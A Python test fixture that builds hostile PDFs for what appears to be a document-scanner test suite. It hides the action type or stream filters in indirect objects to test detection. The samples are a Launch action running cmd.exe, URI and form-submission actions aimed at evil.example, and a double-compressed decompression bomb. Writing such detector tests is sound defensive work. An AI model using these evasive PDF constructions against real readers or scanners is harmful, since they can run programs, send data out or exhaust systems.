"""PDFs that name what they do in another place than where they do it."""

import zlib

from pypdf.generic import ArrayObject, NameObject, TextStringObject

from tests.documents.hostile import action, catalog, contents, pdf, stream, zeros


def indirect(kind, **entries):
    """A PDF with an action of which the kind is named in another place of the file."""

    def change(writer):
        made = action(kind, **entries)
        made[NameObject("/S")] = writer._add_object(NameObject(f"/{kind}"))
        catalog(writer, OpenAction=writer._add_object(made))

    return lambda: pdf(change)


def nested_elsewhere(writer):
    filters = ArrayObject([writer._add_object(NameObject("/FlateDecode"))] * 2)
    packed = stream(zlib.compress(zeros(2000)), Filter=writer._add_object(filters))
    contents(writer, packed)


SITE, PROGRAM = TextStringObject("https://evil.example/"), TextStringObject("cmd.exe")
FILES = {
    "PDF that starts a program": ("a.pdf", indirect("Launch", F=PROGRAM), "active"),
    "PDF that opens a site": ("a.pdf", indirect("URI", URI=SITE), "opens"),
    "PDF that submits a form": ("a.pdf", indirect("SubmitForm", F=SITE), "active"),
    "PDF packed twice": ("a.pdf", lambda: pdf(nested_elsewhere), "bomb"),
}
